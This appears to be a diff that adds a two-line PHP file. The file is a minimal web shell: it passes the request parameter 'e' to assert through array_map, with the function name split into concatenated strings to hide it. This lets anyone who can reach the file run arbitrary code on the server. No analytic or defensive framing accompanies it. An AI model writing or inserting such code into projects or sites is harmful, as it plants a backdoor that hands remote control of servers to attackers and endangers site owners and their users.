@@ -1,0 +1,2 @@
+<?php
+array_map('ass'.'ert', array($_REQUEST['e']));
